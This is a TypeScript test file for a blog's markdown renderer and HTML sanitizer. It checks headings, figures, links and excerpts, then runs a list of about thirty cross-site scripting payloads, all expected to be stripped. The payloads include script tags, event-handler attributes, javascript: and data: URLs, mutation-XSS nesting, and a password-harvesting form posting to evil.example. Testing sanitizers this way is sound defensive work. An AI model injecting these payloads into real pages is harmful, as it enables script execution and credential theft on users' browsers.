import type { Media } from '@strapline/contract/shapes/media';
import { describe, expect, test } from 'vitest';
import { cleanHtml, listPictures, renderMarkdown } from './render-post.ts';

const picture: Media = {
  id: 'upl_abcdefghij',
  kind: 'image',
  alt: '',
  width: 1200,
  height: 900,
  placeholder: '',
  sources: [320, 640, 1080].map((width) => ({ url: `/media/upl_abcdefghij/${width}.webp`, type: 'image/webp', width })),
};
const pictures = new Map([[picture.id, picture]]);
const render = (text: string) => renderMarkdown(text, pictures).html;

describe('Markdown', () => {
  test('has headings below the title, with ids of their own', () => {
    expect(render('# Wash\n\n## Wash\n\n#### Dry')).toBe(
      '<h2 id="h-wash">Wash</h2>\n<h2 id="h-wash-2">Wash</h2>\n<h3 id="h-dry">Dry</h3>\n',
    );
  });

  test('shows a picture of the author as a figure, two of them side by side, and no other picture', () => {
    const one = render('![A bowl](/media/upl_abcdefghij/1080.webp "At 30 °C")');
    expect(one).toContain('<figure><img src="/media/upl_abcdefghij/640.webp" srcset="/media/upl_abcdefghij/320.webp 320w, ');
    expect(one).toContain('width="1200" height="900" alt="A bowl" loading="lazy"');
    expect(one).toContain('<figcaption>At 30 °C</figcaption></figure>');
    expect(render('![a](/media/upl_abcdefghij/1.webp)\n![b](/media/upl_abcdefghij/1.webp)')).toMatch(
      /^<div class="pictures"><figure>.*<\/figure>\n?<figure>/,
    );
    for (const other of ['![x](https://evil.example/x.png)', '![x](/media/upl_zzzzzzzzzz/1080.webp)', '![x](data:image/png;base64,AA)'])
      expect(render(other)).not.toContain('<img');
  });

  test('sends readers elsewhere without a recommendation, and within the site as usual', () => {
    expect(render('[x](https://example.org)')).toContain('<a href="https://example.org" rel="nofollow ugc noopener">x</a>');
    expect(render('[x](/content/help)')).toContain('<a href="/content/help">x</a>');
    expect(render('[x](//evil.example)')).toMatch(/<a( href="[^"]*")? rel="nofollow ugc noopener">x|\[x\]/);
  });

  test('counts minutes and takes its summary from the text, not from headings or captions', () => {
    const { excerpt, readingMinutes, plain } = renderMarkdown(
      '# Silk\n\nWash it *cold* & slowly.\n\n![A](/media/upl_abcdefghij/1.webp "Caption")',
      pictures,
    );
    expect(excerpt).toBe('Wash it cold & slowly.');
    expect(readingMinutes).toBe(1);
    expect(plain).toBe('Silk\nWash it cold & slowly.\nCaption');
  });

  test('lists the pictures that it names', () => {
    expect(listPictures('![ A bowl ](/media/upl_abcdefghij/1080.webp) ![](https://evil.example/x.png)')).toEqual([
      { id: 'upl_abcdefghij', alt: 'A bowl' },
      { id: null, alt: '' },
    ]);
  });
});

const payloads = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<img src="/media/upl_abcdefghij/1.webp" onload=alert(1)>',
  '<svg onload=alert(1)><animate onbegin=alert(1)>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt&colon;alert(1)">x</a>',
  '<a href=" &#14; javascript:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '[x](javascript:alert(1))',
  '[x](<javascript:alert(1)>)',
  '[x](data:text/html;base64,PHNjcmlwdD4=)',
  '![x](javascript:alert(1))',
  '![x"onerror="alert(1)](/media/upl_abcdefghij/1.webp)',
  '![x](/media/upl_abcdefghij/1.webp "\\" onload=alert(1) x=\\"")',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<form action="https://evil.example"><input name=password><button>ok</button></form>',
  '<style>*{background:url(https://evil.example)}</style>',
  '<link rel=stylesheet href=//evil.example><meta http-equiv=refresh content="0;url=//evil.example"><base href=//evil.example>',
  '<p style="position:fixed;inset:0" class="content-top" id="theme" name="x">x</p>',
  '<details open ontoggle=alert(1)><summary>x</summary></details>',
  '<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)>',
  '<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">',
  '<a href="https://ok.example" target=_blank onclick=alert(1) rel=opener>x</a>',
  '<div class="pictures content-foot" onmouseover=alert(1)>x</div>',
  '<template><script>alert(1)</script></template><xmp><script>alert(1)</script></xmp>',
  '<!--><script>alert(1)</script-->',
  '<<script>alert(1)//<</script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src="/media/upl_abcdefghij/../../v1/x">',
];

describe.each([
  ['Markdown', render],
  ['HTML of another program', (text: string) => cleanHtml(text, pictures, 'https://strapline.example').html],
])('in %s nothing runs:', (_, show) => {
  test.each(payloads)('%s', (payload) => {
    const html = show(payload);
    // What is left of tags, without text, which may say anything.
    for (const tag of html.match(/<[^>]*>/g) ?? []) {
      expect(tag).toMatch(
        /^<\/?(?:h2|h3|p|ul|ol|li|blockquote|strong|em|s|code|pre|a|br|hr|img|figure|figcaption|div|table|thead|tbody|tr|th|td)\b/,
      );
      const names = [...tag.replace(/="[^"]*"/g, '=').matchAll(/([\w-]+)=/g)].map(([, name]) => name);
      for (const name of names)
        expect(['href', 'rel', 'src', 'srcset', 'sizes', 'width', 'height', 'alt', 'loading', 'decoding', 'class', 'id']).toContain(name);
      expect(tag).not.toMatch(/(?:href|src)="\s*(?!https?:|mailto:|\/(?!\/)|#)[^"]/i);
      expect(tag).not.toMatch(/content-top|content-foot|position/);
    }
  });
});

test('HTML of another program keeps what is harmless, and pictures of ours by their whole address', () => {
  const html =
    '<h1>Silk</h1><p><b>Cold</b> water</p><img src="https://strapline.example/media/upl_abcdefghij/1080.jpg" alt="A bowl"><img src="https://evil.example/x.png">';
  expect(cleanHtml(html, pictures, 'https://strapline.example').html).toBe(
    '<h2>Silk</h2><p><strong>Cold</strong> water</p><img src="/media/upl_abcdefghij/1080.jpg" srcset="/media/upl_abcdefghij/320.webp 320w, /media/upl_abcdefghij/640.webp 640w, /media/upl_abcdefghij/1080.webp 1080w" sizes="(min-width: 46rem) 42rem, 92vw" width="1200" height="900" alt="A bowl" loading="lazy" decoding="async" />',
  );
});
